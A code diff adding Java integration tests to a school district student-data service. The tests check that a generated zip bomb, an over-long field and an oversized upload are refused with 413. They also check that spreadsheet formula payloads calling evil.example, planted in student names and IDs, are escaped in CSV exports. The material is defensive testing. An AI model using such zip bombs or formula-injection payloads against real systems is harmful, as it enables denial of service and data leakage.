@@ -10,14 +10,24 @@ import jakarta.json.JsonObject;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.InputStream;
+import java.io.OutputStream;
 import java.io.UncheckedIOException;
+import java.net.CookieManager;
+import java.net.Socket;
+import java.net.URI;
 import java.net.URL;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.Base64;
 import java.util.List;
 import java.util.Map;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 import java.util.stream.Stream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
@@ -509,6 +519,214 @@ class DistrictApiIT {
         }
         assertTrue(run.getBoolean("finished"), run.toString());
         assertTrue(run.getInt("students") > 0);
+    }
+
+    @Test
+    void aOneRosterZipBombAHugeFieldAndAnOversizedUploadAreRefusedWith413AndTheServerStaysHealthy() throws IOException {
+        // The attack: 1.5 GB of users.csv in a zip of about 1.5 MB.
+        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bomb)) {
+            zip.putNextEntry(new ZipEntry("manifest.csv"));
+            zip.write("propertyName,value\nmanifest.version,1.0\n".getBytes(StandardCharsets.UTF_8));
+            zip.closeEntry();
+            zip.putNextEntry(new ZipEntry("users.csv"));
+            byte[] zeros = new byte[1024 * 1024];
+            for (int i = 0; i < 1500; i++) {
+                zip.write(zeros);
+            }
+            zip.closeEntry();
+        }
+        assertTrue(bomb.size() < 2 * 1024 * 1024, "1.5 GB inflated from " + bomb.size() + " bytes");
+        HttpResponse<String> bombRefused =
+                http.post("/api/imports/oneroster", "admin", "application/zip", bomb.toByteArray());
+        assertEquals(413, bombRefused.statusCode(), bombRefused.body());
+        String bombMessage = Http.json(bombRefused).getString("message");
+        assertTrue(
+                bombMessage.contains("users.csv") && bombMessage.contains("TIERED_IMPORT_ZIP_MAX_RATIO"), bombMessage);
+        assertEquals(200, http.get("/health", null).statusCode(), "the server still answers");
+
+        // A students file announcing 150 MB, most of it one field: refused after its first 64 KiB, with the line.
+        byte[] start = ("sourced_id,given_name,family_name,grade,school_id\nstu-huge," + "x".repeat(1024 * 1024))
+                .getBytes(StandardCharsets.UTF_8);
+        String[] field = partialUpload("/api/imports/students", "text/csv", 150_000_000L, start);
+        assertEquals("413", field[0], field[1]);
+        assertTrue(
+                field[1].contains("line 2: a field is longer than 65,536 characters")
+                        && field[1].contains("TIERED_IMPORT_MAX_FIELD_CHARS")
+                        && field[1].contains("Nothing was stored"),
+                field[1]);
+        assertEquals(200, http.get("/health", null).statusCode(), "the server still answers");
+
+        // 300 MB announced: refused before a byte of the body is read.
+        String[] upload = partialUpload("/api/imports/students", "text/csv", 300_000_000L, new byte[0]);
+        assertEquals("413", upload[0], upload[1]);
+        assertTrue(
+                upload[1].contains("larger than 200 MiB") && upload[1].contains("TIERED_IMPORT_MAX_BYTES"), upload[1]);
+
+        assertEquals(200, http.get("/health", null).statusCode(), "the server still answers");
+        assertFalse(http.get("/api/students/stu-huge/status", "admin").statusCode() == 200, "nothing of it was stored");
+        importSampleDistrict();
+    }
+
+    @Test
+    void formulasInStudentDataArriveAsTextInEveryExportAndEachExportIsInTheAccessLog() throws Exception {
+        importSampleDistrict();
+        String evilId = "=HYPERLINK(\"http://evil.example\",\"x\")";
+        String quotedId = "\"" + evilId.replace("\"", "\"\"") + "\"";
+        String evilName = "=HYPERLINK(\"http://evil.example/?leak\",\"Kowalski\")";
+        String students = "sourced_id,given_name,family_name,grade,school_id\n"
+                + "stu-00004,Kenji,\"" + evilName.replace("\"", "\"\"") + "\",05,sch-west\n"
+                + quotedId + ",Eve,Mallory,05,sch-west\n";
+        try {
+            assertEquals(
+                    0,
+                    Http.json(http.post(
+                                    "/api/imports/students",
+                                    "admin",
+                                    "text/csv",
+                                    students.getBytes(StandardCharsets.UTF_8)))
+                            .getInt("rowsRejected"));
+            String screening = "student_sourced_id,domain,measure,window,administered_on,score,percentile\n" + quotedId
+                    + ",READING,STAR_READING,WINTER,2026-01-13,400,8\n";
+            assertEquals(
+                    0,
+                    Http.json(http.post(
+                                    "/api/imports/screening",
+                                    "admin",
+                                    "text/csv",
+                                    screening.getBytes(StandardCharsets.UTF_8)))
+                            .getInt("rowsRejected"));
+            int run = Http.json(http.post("/api/evaluations?asOf=" + SampleDistrict.asOf(), "coordinator"))
+                    .getInt("id");
+
+            String results = http.get("/api/evaluations/" + run + "/results", "coordinator")
+                    .body();
+            assertTrue(results.contains("\n\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",READING,"), results);
+            assertFalse(results.contains("\n\"=") || results.contains("\n="), "no cell starts a formula");
+
+            String deadlines = download("/deadlines.xhtml", "deadlines", "coordinator");
+            assertTrue(deadlines.startsWith("studentSourcedId,name,school,deadline,domain,why\n"), deadlines);
+            assertFalse(deadlines.contains("#{"), "values, not the page's expressions: " + deadlines);
+            assertTrue(
+                    deadlines.contains("stu-00004,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Kowalski\"\"),"
+                            + " Kenji\",\"West School, Upper\",EVALUATION_OVERDUE,MATH,"),
+                    deadlines);
+
+            String caseload = download("/students.xhtml", "list", "coordinator");
+            assertTrue(caseload.contains("stu-00004,\"'=HYPERLINK("), caseload);
+            assertTrue(
+                    caseload.contains("\n\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",\"Mallory, Eve\""),
+                    caseload);
+
+            String log = http.get("/admin/access-log.xhtml?user=coordinator", "admin")
+                    .body();
+            assertTrue(log.contains("Results CSV of evaluation " + run), "the results export is logged");
+            assertTrue(log.contains("Deadlines CSV"), "the deadlines export is logged");
+            assertTrue(log.contains("Caseload CSV"), "the caseload export is logged");
+        } finally {
+            // The made-up student leaves the district's evaluations (withdrawn), stu-00004 gets its name back.
+            String users = "sourcedId,status,dateLastModified,enabledUser,orgSourcedIds,role,username,userIds,"
+                    + "givenName,familyName,middleName,identifier,email,sms,phone,agentSourcedIds,grades,password\n"
+                    + quotedId + ",tobedeleted,,true,sch-west,student,eve,,Eve,Mallory,,,,,,,05,\n";
+            http.post(
+                    "/api/imports/oneroster",
+                    "admin",
+                    "application/zip",
+                    zipOf(Map.of("manifest.csv", "propertyName,value\nmanifest.version,1.0\n", "users.csv", users)));
+            importSampleDistrict();
+        }
+    }
+
+    /**
+     * An upload that announces {@code declared} bytes and sends only {@code start}, as a client sending a huge file
+     * would have when the server answers: the status and the body of the answer.
+     */
+    private String[] partialUpload(String path, String contentType, long declared, byte[] start) throws IOException {
+        URL url = new URL(http.url(path));
+        try (Socket socket = new Socket("localhost", url.getPort())) {
+            socket.setSoTimeout(60_000);
+            OutputStream out = socket.getOutputStream();
+            String head = "POST " + url.getPath() + " HTTP/1.1\r\nHost: localhost:" + url.getPort()
+                    + "\r\nAuthorization: Basic "
+                    + Base64.getEncoder().encodeToString("admin:demo".getBytes(StandardCharsets.UTF_8))
+                    + "\r\nContent-Type: " + contentType + "\r\nContent-Length: " + declared
+                    + "\r\nConnection: close\r\n\r\n";
+            out.write(head.getBytes(StandardCharsets.US_ASCII));
+            try {
+                out.write(start);
+                out.flush();
+            } catch (IOException answeredAlready) {
+                // the server may answer and close before it has taken all that was sent
+            }
+            ByteArrayOutputStream answer = new ByteArrayOutputStream();
+            InputStream in = socket.getInputStream();
+            byte[] buffer = new byte[8192];
+            try {
+                for (int n; (n = in.read(buffer)) != -1; ) {
+                    answer.write(buffer, 0, n);
+                    String text = answer.toString(StandardCharsets.UTF_8);
+                    if (text.contains("\r\n\r\n") && text.lastIndexOf('}') > text.indexOf("\r\n\r\n")) {
+                        break;
+                    }
+                }
+            } catch (java.net.SocketException closed) {
+                // the answer is complete; the server closed the connection on the unread rest of the body
+            }
+            String text = answer.toString(StandardCharsets.UTF_8);
+            String status = text.length() >= 12 ? text.substring(9, 12) : text;
+            int json = text.indexOf('{');
+            return new String[] {status, json < 0 ? text : text.substring(json, text.lastIndexOf('}') + 1)};
+        }
+    }
+
+    /** Presses a page's "Export" button (a non-Ajax post back with the view state) and answers the file it sends. */
+    private String download(String page, String form, String user) throws IOException, InterruptedException {
+        HttpClient browser = HttpClient.newBuilder()
+                .cookieHandler(new CookieManager())
+                .followRedirects(HttpClient.Redirect.NEVER)
+                .build();
+        String auth = "Basic " + Base64.getEncoder().encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8));
+        HttpResponse<String> shown = browser.send(
+                HttpRequest.newBuilder(URI.create(http.url(page)))
+                        .header("Authorization", auth)
+                        .build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertEquals(200, shown.statusCode(), page);
+        Matcher state = Pattern.compile("name=\"jakarta.faces.ViewState\"[^>]*value=\"([^\"]+)\"")
+                .matcher(shown.body());
+        assertTrue(state.find(), "the page has a view state");
+        String body = form + "=" + form + "&" + enc(form + ":export") + "=&" + enc("jakarta.faces.ViewState") + "="
+                + enc(state.group(1).replace("&#58;", ":"));
+        HttpResponse<String> file = browser.send(
+                HttpRequest.newBuilder(URI.create(http.url(page)))
+                        .header("Authorization", auth)
+                        .header("Content-Type", "application/x-www-form-urlencoded")
+                        .header("Origin", http.url("/").replaceAll("/$", ""))
+                        .header("Referer", http.url(page))
+                        .POST(HttpRequest.BodyPublishers.ofString(body))
+                        .build(),
+                HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
+        assertEquals(200, file.statusCode(), file.body());
+        assertTrue(
+                file.headers().firstValue("Content-Type").orElse("").startsWith("text/csv"),
+                page + " sent " + file.headers().map() + ": " + file.body());
+        return file.body();
+    }
+
+    private static String enc(String text) {
+        return URLEncoder.encode(text, StandardCharsets.UTF_8);
+    }
+
+    private static byte[] zipOf(Map<String, String> files) throws IOException {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
+            for (Map.Entry<String, String> file : files.entrySet()) {
+                zip.putNextEntry(new ZipEntry(file.getKey()));
+                zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
+                zip.closeEntry();
+            }
+        }
+        return bytes.toByteArray();
     }
 
     private String liveVersion() {
